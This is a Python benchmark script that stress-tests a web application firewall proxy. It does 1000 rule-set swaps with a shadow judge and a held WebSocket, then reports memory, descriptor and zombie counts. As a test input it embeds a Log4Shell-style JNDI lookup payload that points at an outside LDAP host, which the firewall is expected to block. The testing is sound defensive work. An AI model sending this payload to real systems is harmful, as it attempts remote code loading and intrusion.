#!/usr/bin/env python3
"""A thousand rule-set swaps with a shadow beside and a WebSocket held: what stays behind in memory, descriptors and processes.

    bench/waf_swaps.py --crs TREE [--engine PATH] [--proxy PATH] [--swaps 1000] [--every 100]

Each swap loads a rule set of a new name in a judge of its own, has it judge as a shadow, then decide; the one before becomes the
one to go back to, the one before that ends. Between the steps a request passes, an attack is refused and the WebSocket echoes.
A row each `--every` swaps: memory of all processes (PSS), of the proxy alone, open descriptors of all, children, zombies.
PROXY is `bedrail waf run --no-follow --config` or the example `run`. Loopback only.
"""
import argparse
import asyncio
import json
import os
import pathlib
import shlex
import signal
import socket
import subprocess
import tempfile

from waf import ask, family, memory, wait

PORT = 18_320
ATTACK = b"GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: pump.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"
PLAIN = b"GET /patients?name=garcia HTTP/1.1\r\nHost: pump.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"
OPEN = (b"GET /socket HTTP/1.1\r\nHost: pump.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")


async def device(reader, writer):
    """Answers 200; a WebSocket gets back what it sends."""
    try:
        while True:
            head = await reader.readuntil(b"\r\n\r\n")
            if b"upgrade: websocket" in head.lower():
                writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
                while piece := await reader.read(4096):
                    writer.write(piece)
                return
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok")
    except (asyncio.IncompleteReadError, asyncio.CancelledError, ConnectionError):
        pass


def say(state, **line):
    """One line for the control socket, and its answer."""
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(90)
        stream.connect(str(state / "control.sock"))
        stream.sendall(json.dumps(line).encode() + b"\n")
        answer = json.loads(stream.makefile().readline())
    if "error" in answer:
        raise SystemExit(f"{line}: {answer['error']}")
    return answer


def descriptors(pids):
    return sum(len(os.listdir(f"/proc/{pid}/fd")) for pid in pids)


def zombies(pids):
    states = (pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] for pid in pids)
    return sum(state == "Z" for state in states)


async def echo(reader, writer, text):
    frame = bytes([0x81, 0x80 | len(text), 0, 0, 0, 0]) + text
    writer.write(frame)
    back = await asyncio.wait_for(reader.readexactly(len(frame)), 30)
    assert back == frame, back


async def swaps(words, state, pid):
    reader, writer = await asyncio.open_connection("127.0.0.1", PORT)
    held_reader, held = await asyncio.open_connection("127.0.0.1", PORT)
    held.write(OPEN)
    assert b" 101 " in await held_reader.readuntil(b"\r\n\r\n")
    wrong, rows, loop = [], [], asyncio.get_running_loop()

    async def control(**line):
        await loop.run_in_executor(None, lambda: say(state, **line))

    async def expect(request, due):
        status = await ask(reader, writer, request)
        if status != due:
            wrong.append(status)

    print("| swaps | memory of all, MiB | of the proxy, MiB | descriptors of all | of the proxy | processes | zombies |\n|---|---|---|---|---|---|---|")
    for number in range(1, words.swaps + 1):
        name, before = f"set-{number}", f"set-{number - 1}" if number > 1 else "first"
        await control(command="load", name=name, rules=[os.path.abspath(words.crs)])
        await control(command="route", shadow=name)
        await expect(PLAIN, 200)
        await control(command="route", current=name, standby=before)
        await expect(ATTACK, 403)
        await echo(held_reader, held, b"here")
        if number % words.every == 0 or number in (1, 10):
            # The judge before the one before needs a moment to end.
            await asyncio.sleep(1)
            pids = family(pid)
            rows.append((number, memory(pids), memory([pid]), descriptors(pids), descriptors([pid]), len(pids), zombies(pids)))
            print("| " + " | ".join(str(it) for it in rows[-1]) + " |", flush=True)
    print(f"wrong answers: {len(wrong)} {sorted(set(wrong))}; the WebSocket echoed {words.swaps} times")


async def main():
    words = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    words.add_argument("--crs", required=True)
    words.add_argument("--engine", default="target/release/bedrail-waf-engine")
    words.add_argument("--proxy", default="target/release/examples/run")
    words.add_argument("--swaps", type=int, default=1000)
    words.add_argument("--every", type=int, default=100)
    words = words.parse_args()
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        server = await asyncio.start_server(device, "127.0.0.1", 0)
        upstream = server.sockets[0].getsockname()[1]
        file = folder / "sites.yaml"
        file.write_text(f"""
listen: [{{address: '127.0.0.1:{PORT}'}}]
state: {folder}/state
engine: {os.path.abspath(words.engine)}
rule_sets: [{{name: first, rules: ['{os.path.abspath(words.crs)}']}}]
limits: {{idle_seconds: 600, judge_seconds: 30}}
sites:
  - {{key: pump, hosts: ['*'], upstream: 'http://127.0.0.1:{upstream}', mode: block, approved_by: bench, approved_on: '2026-11-27'}}
""")
        proxy = subprocess.Popen([*shlex.split(words.proxy), str(file)], stdout=subprocess.DEVNULL)
        try:
            await wait(PORT)
            await swaps(words, folder / "state", proxy.pid)
        finally:
            proxy.send_signal(signal.SIGTERM)
            proxy.wait()


if __name__ == "__main__":
    asyncio.run(main())
